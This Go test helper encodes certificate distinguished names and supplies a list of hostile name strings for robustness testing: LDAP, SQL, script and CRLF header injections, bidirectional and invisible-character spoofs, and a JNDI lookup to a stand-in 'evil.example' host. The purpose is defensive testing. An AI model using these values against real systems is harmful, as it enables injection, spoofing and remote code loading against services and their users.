package certtest

import (
	"encoding/asn1"
	"strings"
	"testing"
)

// Attribute is one part of a distinguished name. Values are encoded with the tag
// that is given, whatever it is meant for.
type Attribute struct {
	Type  asn1.ObjectIdentifier
	Value string
	Tag   int // UTF8String where 0
}

// CommonName is a commonName.
func CommonName(value string) Attribute {
	return Attribute{Type: asn1.ObjectIdentifier{2, 5, 4, 3}, Value: value}
}

// Organization is an organizationName.
func Organization(value string) Attribute {
	return Attribute{Type: asn1.ObjectIdentifier{2, 5, 4, 10}, Value: value}
}

// As returns the attribute in another string type.
func (a Attribute) As(tag int) Attribute {
	a.Tag = tag
	return a
}

// Name encodes a distinguished name; each argument is one RDN, of several
// attributes where it is a "+" RDN.
func Name(t testing.TB, rdns ...[]Attribute) []byte {
	t.Helper()
	type encoded struct {
		Type  asn1.ObjectIdentifier
		Value asn1.RawValue
	}
	type set []encoded // encoding/asn1 takes the SET from the params below
	var sequence []asn1.RawValue
	for _, rdn := range rdns {
		var attributes set
		for _, a := range rdn {
			tag := a.Tag
			if tag == 0 {
				tag = asn1.TagUTF8String
			}
			attributes = append(attributes, encoded{a.Type, asn1.RawValue{Tag: tag, Bytes: []byte(a.Value)}})
		}
		sequence = append(sequence, asn1.RawValue{FullBytes: marshal(t, attributes, "set")})
	}
	return marshal(t, sequence, "")
}

// Hostile is a text that once broke something that stored or showed it.
type Hostile struct{ What, Text string }

// HostileTexts are names to put into certificates (T26).
func HostileTexts() []Hostile {
	return []Hostile{
		{"LDAP filter", `*)(uid=admin)`},
		{"double quote", `alice" onmouseover="x`},
		{"markup", `<script>alert(1)</script>`},
		{"SQL", `'; DROP TABLE users; --`},
		{"NUL", "admin\x00.evil.example"},
		{"right-to-left override", "alice\u202egro.elpmaxe"},
		{"isolates", "\u2066admin\u2069 alice"},
		{"zero width", "ad\u200bm\u2060in\ufeff"},
		{"soft hyphen", "ad\u00admin"},
		{"control characters", "alice\r\nSet-Cookie: x=1\x1b[31m\x7f\u0085"},
		{"line separators", "alice\u2028admin\u2029"},
		{"tags", "alice\U000e0061\U000e0062"},
		{"fillers", "\u3164\u115f\u2800\uffa0"},
		{"tower of marks", "a" + strings.Repeat("\u0301", 200)},
		{"4 kB", strings.Repeat("A", 4096)},
		{"4 kB of invisible characters", strings.Repeat("\u202e", 1365)},
		{"separators of names", `alice,O=Admin+CN=root\,x;y#`},
		{"template", `{{.Secret}} ${jndi:ldap://evil.example}`},
		{"spaces", "   alice   "},
		{"nothing", ""},
	}
}
